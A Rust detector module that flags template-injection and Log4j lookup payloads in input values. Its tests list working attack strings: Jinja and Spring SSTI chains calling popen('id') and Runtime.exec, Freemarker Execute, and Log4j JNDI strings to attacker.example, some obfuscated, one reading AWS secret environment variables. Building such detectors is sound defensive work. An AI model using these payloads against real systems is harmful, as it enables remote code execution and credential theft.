//! Template and expression-language injection by syntax: each template expression in the value
//! (`{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `<% %>`, Freemarker and Velocity directives) is
//! looked at for what only an attack needs there: object internals (`__class__`), the
//! engine's globals (`config`, `request`, `cycler`), a type or class lookup (`T(`,
//! `getClass`, `forName`), arithmetic on literals (the `{{7*7}}` probe) or a call that runs
//! code. Placeholders (`{{ user.name }}`, `${AWS::Region}`) pass. Log4j lookups are resolved
//! first (`${${::-j}ndi:` is `${jndi:`), as Log4j itself resolves them.

use super::{Found, Strictness};

pub(super) const DANGEROUS_NAMES: &[&str] = &[
    "config",
    "request",
    "self",
    "cycler",
    "lipsum",
    "joiner",
    "namespace",
    "url_for",
    "get_flashed_messages",
    "getclass",
    "forname",
    "getruntime",
    "runtime",
    "processbuilder",
    "exec",
    "system",
    "popen",
    "import",
    "eval",
    "constructor",
    "invoke",
    "subprocess",
    "child_process",
    "require",
    "_self",
    "getenv",
    "attr",
    "mro",
    "subclasses",
    "globals",
    "builtins",
    "freemarker",
    "execute",
    "classloader",
    "getmethod",
    "newinstance",
    "scriptengine",
    "ognl",
    "memberaccess",
    "defineclass",
    "jndi",
    "objectconstructor",
];

/// Longest of `DANGEROUS_NAMES`.
const LONGEST_NAME: usize = 20;

/// For each first byte of `DANGEROUS_NAMES` (a letter, or `_` last), the lengths they have:
/// most names in an expression are passed over with one lookup.
const NAME_LENGTHS: [u32; 27] = {
    let mut t = [0u32; 27];
    let mut k = 0;
    while k < DANGEROUS_NAMES.len() {
        let n = DANGEROUS_NAMES[k].as_bytes();
        t[first_index(n[0])] |= 1 << n.len();
        k += 1;
    }
    t
};

/// `NAME_LENGTHS`' index of a name's lower-case first byte (27 for no name's).
const fn first_index(c: u8) -> usize {
    match c {
        b'a'..=b'z' => (c - b'a') as usize,
        b'_' => 26,
        _ => 27,
    }
}

/// What in a template expression only an attack needs. Read in place, in any case: a value
/// can hold an expression every few bytes (`${::-j}` over and over), and copying each to
/// lower case cost more than reading it.
fn dangerous(expr: &str) -> Option<&'static str> {
    let b = expr.as_bytes();
    if b.windows(2).any(|w| w == b"__") {
        return Some("object internals in a template expression");
    }
    if b.contains(&b'`') {
        return Some("a shell command in a template expression");
    }
    let names = b.split(|&c| !(c.is_ascii_alphanumeric() || c == b'_'));
    let mut lower = [0u8; LONGEST_NAME];
    for id in names.filter(|id| !id.is_empty() && id.len() <= LONGEST_NAME) {
        let lengths = NAME_LENGTHS
            .get(first_index(id[0].to_ascii_lowercase()))
            .copied()
            .unwrap_or(0);
        if lengths >> id.len() & 1 == 0 {
            continue;
        }
        let lower = &mut lower[..id.len()];
        lower.copy_from_slice(id);
        lower.make_ascii_lowercase();
        if DANGEROUS_NAMES.iter().any(|n| n.as_bytes() == &*lower) {
            return Some("engine globals or code execution in a template expression");
        }
    }
    let t = expr.trim_start_matches(['=', '-', '#', ' ']).as_bytes();
    let starts = |p: &[u8]| t.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p));
    let holds = |p: &[u8]| b.windows(p.len()).any(|w| w.eq_ignore_ascii_case(p));
    if starts(b"t(") || starts(b"t (") || holds(b"?new(") || holds(b".class") {
        return Some("a class lookup in an expression");
    }
    // The probe needs an operator: most expressions are read no further.
    if b.iter().any(|c| matches!(c, b'*' | b'+' | b'/')) && arithmetic_probe(expr) {
        return Some("arithmetic on literals (a template-injection probe)");
    }
    None
}

/// `7*7`, `7 * '7'`, `191*7`: two literals and an operator, the canonical probe.
fn arithmetic_probe(expr: &str) -> bool {
    let t: String = expr
        .chars()
        .filter(|c| {
            !c.is_whitespace() && !matches!(c, '\'' | '"' | '-' | '=' | '{' | '}' | '(' | ')')
        })
        .collect();
    let Some(op) = t.find(['*', '+', '/']) else {
        return false;
    };
    let (a, b) = (&t[..op], &t[op + 1..]);
    !a.is_empty()
        && !b.is_empty()
        && a.bytes().all(|c| c.is_ascii_digit())
        && b.bytes().all(|c| c.is_ascii_digit())
}

/// Log4j lookups resolved to a fixed point: `${lower:J}`, `${::-j}`, `${env:X:-j}` become `j`.
/// The first `${` (a `str::find` would build a searcher per call).
fn dollar_brace(b: &[u8]) -> Option<usize> {
    let mut from = 0;
    // A plain loop rather than memchr: `$` can be every other byte, and each memchr call
    // costs more than the few bytes it skips.
    while let Some(p) = b[from..].iter().position(|&c| c == b'$') {
        let at = from + p;
        if b.get(at + 1) == Some(&b'{') {
            return Some(at);
        }
        from = at + 1;
    }
    None
}

fn resolve_lookups(value: &str) -> String {
    let mut current = value.to_string();
    for _ in 0..8 {
        let mut out = String::with_capacity(current.len());
        let mut changed = false;
        let mut rest = current.as_str();
        while let Some(open) = dollar_brace(rest.as_bytes()) {
            let inner_start = open + 2;
            let b = rest.as_bytes();
            // The first `}` or `${` after the opener, found in one pass: a nested opener
            // restarts from there, so the round stays linear.
            let mut j = inner_start;
            let stop = loop {
                match b.get(j) {
                    None => break None,
                    Some(b'}') => break Some((j, true)),
                    Some(b'$') if b.get(j + 1) == Some(&b'{') => break Some((j, false)),
                    _ => j += 1,
                }
            };
            match stop {
                Some((c, true)) => {
                    // Written straight into `out`, with no searcher built or copy made per
                    // lookup: a value can be `${::-j}` from end to end.
                    let inner = &rest[inner_start..c];
                    out.push_str(&rest[..open]);
                    let ib = inner.as_bytes();
                    let default = (1..ib.len())
                        .find(|&k| ib[k] == b'-' && ib[k - 1] == b':')
                        .map(|k| &inner[k + 1..]);
                    let case = || {
                        inner
                            .strip_prefix("lower:")
                            .or_else(|| inner.strip_prefix("upper:"))
                    };
                    if let Some(d) = default {
                        out.push_str(d);
                        changed = true;
                    } else if let Some(word) = case() {
                        out.extend(word.chars().map(|ch| ch.to_ascii_lowercase()));
                        changed = true;
                    } else {
                        out.push_str(&rest[open..=c]);
                    }
                    rest = &rest[c + 1..];
                }
                Some((n, false)) => {
                    out.push_str(&rest[..n]);
                    rest = &rest[n..];
                }
                None => break,
            }
        }
        out.push_str(rest);
        if !changed {
            return out;
        }
        current = out;
    }
    current
}

const OPENERS: &[(&str, &str)] = &[
    ("{{", "}}"),
    ("{%", "%}"),
    ("${", "}"),
    ("#{", "}"),
    ("*{", "}"),
    ("@{", "}"),
    ("<%", "%>"),
    ("<#", ">"),
    ("#set(", ")"),
    ("[[", "]]"),
];

/// First bytes of `OPENERS`.
const OPENS: [bool; 256] = {
    let mut t = [false; 256];
    let mut n = 0;
    while n < OPENERS.len() {
        t[OPENERS[n].0.as_bytes()[0] as usize] = true;
        n += 1;
    }
    t
};

/// The opener (and its closer) that starts at `b[i]`, if any: most bytes open nothing, and
/// the first byte picks the few openers worth comparing.
fn opener_at(b: &[u8], i: usize) -> Option<(&'static str, &'static str)> {
    let next = b.get(i + 1).copied();
    let pair = match (b[i], next) {
        (b'{', Some(b'{')) => ("{{", "}}"),
        (b'{', Some(b'%')) => ("{%", "%}"),
        (b'$', Some(b'{')) => ("${", "}"),
        (b'#', Some(b'{')) => ("#{", "}"),
        (b'*', Some(b'{')) => ("*{", "}"),
        (b'@', Some(b'{')) => ("@{", "}"),
        (b'<', Some(b'%')) => ("<%", "%>"),
        (b'<', Some(b'#')) => ("<#", ">"),
        (b'[', Some(b'[')) => ("[[", "]]"),
        (b'#', Some(b's')) if b[i..].starts_with(b"#set(") => ("#set(", ")"),
        _ => return None,
    };
    debug_assert!(OPENERS.contains(&pair));
    Some(pair)
}

pub fn detect(value: &str, _strictness: Strictness) -> Option<Found> {
    // A byte search: a `char` pattern decodes every character of the value.
    let b = value.as_bytes();
    if memchr::memchr3(b'{', b'%', b'#', b).is_none() && memchr::memchr(b'[', b).is_none() {
        return None;
    }
    let found = |at: usize, what: &'static str| {
        Found::new(
            "template-expression",
            "code-injection",
            what,
            value,
            at.saturating_sub(8),
        )
    };
    // Every lookup has a `:` (`${jndi:`, `${env:X}`); only `:-` defaults and `lower:` or
    // `upper:` resolve to something else.
    if value.contains("${") && value.contains(':') {
        let resolved =
            if value.contains(":-") || value.contains("lower:") || value.contains("upper:") {
                resolve_lookups(value)
            } else {
                value.to_string()
            }
            .to_ascii_lowercase();
        let rb = resolved.as_bytes();
        let mut from = 0;
        while let Some(p) = dollar_brace(&rb[from..]) {
            let at = from + p;
            from = at + 2;
            let rest = &resolved[at + 2..];
            if !rest.as_bytes().first().is_some_and(u8::is_ascii_alphabetic) {
                continue;
            }
            let lookup = [
                "jndi:", "env:", "sys:", "java:", "ctx:", "main:", "spring:", "k8s:", "docker:",
                "bundle:", "sd:", "web:", "base64:",
            ]
            .iter()
            .any(|l| rest.starts_with(l));
            if lookup {
                return Some(Found::new(
                    "log4j-lookup",
                    "code-injection",
                    "a Log4j lookup (JNDI or environment disclosure)",
                    &resolved,
                    at,
                ));
            }
        }
    }
    // Innermost expressions only: each closer pairs with the nearest opener before it, so
    // the work stays linear however the delimiters nest.
    let mut open: Option<(usize, usize, &str)> = None;
    let mut i = 0;
    while i < b.len() {
        // Bytes that neither open an expression nor close the open one, in a tight loop
        // (a branch per byte on what it opens costs a misprediction on varied text).
        let closes = open.map(|(_, _, closer)| closer.as_bytes()[0]);
        while i < b.len() && !OPENS[b[i] as usize] && Some(b[i]) != closes {
            i += 1;
        }
        let Some(&c) = b.get(i) else {
            break;
        };
        if let Some((o, closer)) = opener_at(b, i) {
            open = Some((i, i + o.len(), closer));
            i += o.len();
            continue;
        }
        if let Some((at, start, closer)) = open {
            if closer.as_bytes()[0] == c && b[i..].starts_with(closer.as_bytes()) {
                let expr = &value[start..i];
                if expr.len() <= 2048 {
                    if let Some(what) = dangerous(expr) {
                        return Some(found(at, what));
                    }
                }
                open = None;
                i += closer.len();
                continue;
            }
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `resolve_lookups` as it was, a searcher and a copy per lookup: the reference.
    fn resolve_lookups_copying(value: &str) -> String {
        let mut current = value.to_string();
        for _ in 0..8 {
            let mut out = String::with_capacity(current.len());
            let mut changed = false;
            let mut rest = current.as_str();
            while let Some(open) = dollar_brace(rest.as_bytes()) {
                let inner_start = open + 2;
                let b = rest.as_bytes();
                let mut j = inner_start;
                let stop = loop {
                    match b.get(j) {
                        None => break None,
                        Some(b'}') => break Some((j, true)),
                        Some(b'$') if b.get(j + 1) == Some(&b'{') => break Some((j, false)),
                        _ => j += 1,
                    }
                };
                match stop {
                    Some((c, true)) => {
                        let inner = &rest[inner_start..c];
                        let resolved = if let Some((_, default)) = inner.split_once(":-") {
                            Some(default.to_string())
                        } else {
                            inner
                                .strip_prefix("lower:")
                                .or_else(|| inner.strip_prefix("upper:"))
                                .map(str::to_ascii_lowercase)
                        };
                        out.push_str(&rest[..open]);
                        match resolved {
                            Some(r) => {
                                out.push_str(&r);
                                changed = true;
                            }
                            None => out.push_str(&rest[open..=c]),
                        }
                        rest = &rest[c + 1..];
                    }
                    Some((n, false)) => {
                        out.push_str(&rest[..n]);
                        rest = &rest[n..];
                    }
                    None => break,
                }
            }
            out.push_str(rest);
            if !changed {
                return out;
            }
            current = out;
        }
        current
    }

    #[test]
    fn lookups_resolve_in_place_as_with_a_copy_each() {
        const PIECES: &[&str] = &[
            "${", "}", ":-", ":", "-", "lower:", "upper:", "LOWER:", "J", "ndi", "x", "$", "{",
            "é", "::-", "jndi:", "É",
        ];
        let changed = crate::detect::agrees_with_reference(
            PIECES,
            23,
            30_000,
            59,
            resolve_lookups,
            resolve_lookups_copying,
            |r| !r.is_empty(),
        );
        assert!(changed > 10_000, "{changed}");
    }

    /// `dangerous` as it was, on a lower-cased copy: the reference.
    fn dangerous_on_a_copy(expr: &str) -> Option<&'static str> {
        let lower = expr.to_ascii_lowercase();
        if lower.contains("__") {
            return Some("object internals in a template expression");
        }
        if lower.contains('`') {
            return Some("a shell command in a template expression");
        }
        let idents = lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'));
        for id in idents {
            if DANGEROUS_NAMES.contains(&id) {
                return Some("engine globals or code execution in a template expression");
            }
        }
        let t = lower.trim_start_matches(['=', '-', '#', ' ']);
        if t.starts_with("t(")
            || t.starts_with("t (")
            || lower.contains("?new(")
            || lower.contains(".class")
        {
            return Some("a class lookup in an expression");
        }
        if arithmetic_probe(&lower) {
            return Some("arithmetic on literals (a template-injection probe)");
        }
        None
    }

    #[test]
    fn expressions_are_judged_in_place_as_on_a_lower_case_copy() {
        assert!(DANGEROUS_NAMES.iter().all(|n| n.len() <= LONGEST_NAME));
        const PIECES: &[&str] = &[
            "Config",
            "REQUEST",
            "self",
            "_",
            "__",
            "`",
            "T(",
            "t (",
            "?New(",
            ".Class",
            "7",
            "*",
            "+",
            "/",
            "'",
            " ",
            "=",
            "-",
            "#",
            "{",
            "(",
            ")",
            "x",
            "é",
            "ſ",
            "K",
            "getClass",
            "objectconstructor",
            "a.b",
            "\u{3000}",
        ];
        let hits = crate::detect::agrees_with_reference(
            PIECES,
            17,
            30_000,
            60,
            dangerous,
            dangerous_on_a_copy,
            Option::is_some,
        );
        assert!(hits > 5_000, "{hits}");
    }

    fn hit(v: &str) -> bool {
        detect(v, Strictness::Generic).is_some()
    }

    #[test]
    fn injections() {
        for v in [
            "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "<%= 7 * 7 %>",
            "<%= `id` %>",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://attacker.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${lower:J}ndi:rmi://x/a}",
            "${${env:NOPE:-j}ndi:dns://x}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x = $class.inspect(\"java.lang.Runtime\"))",
            "{{ request.application.__globals__ }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{% import os %}{{ os.system('id') }}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "{{#with \"s\" as |string|}}{{#with string.constructor}}{{/with}}{{/with}}",
        ] {
            assert!(hit(v), "missed: {v}");
        }
    }

    #[test]
    fn placeholders() {
        for v in [
            "{{ user.name }}",
            "Hello {{name}}, welcome!",
            "${AWS::Region}",
            "{{ price | currency }}",
            "Dear ${firstName} ${lastName}",
            "#{orderId}",
            "{% if user %}Hi{% endif %}",
            "Use {{ }} for placeholders",
            "Total: ${total}",
            "See [[Main Page]]",
            "{{ 'Hello' }}",
            "{{ items.length }} items",
        ] {
            assert!(!hit(v), "false positive: {v}");
        }
    }

    #[test]
    fn every_opener_is_recognised() {
        for (o, c) in OPENERS {
            let text = format!("{o}x");
            assert_eq!(opener_at(text.as_bytes(), 0), Some((*o, *c)), "{o}");
        }
        assert_eq!(opener_at(b"{x", 0), None);
    }

    #[test]
    fn nested_delimiters_stay_linear() {
        let v = "{{".repeat(50_000) + &"}}".repeat(50_000);
        assert!(!hit(&v));
        let v = "${".repeat(50_000);
        assert!(!hit(&v));
    }
}
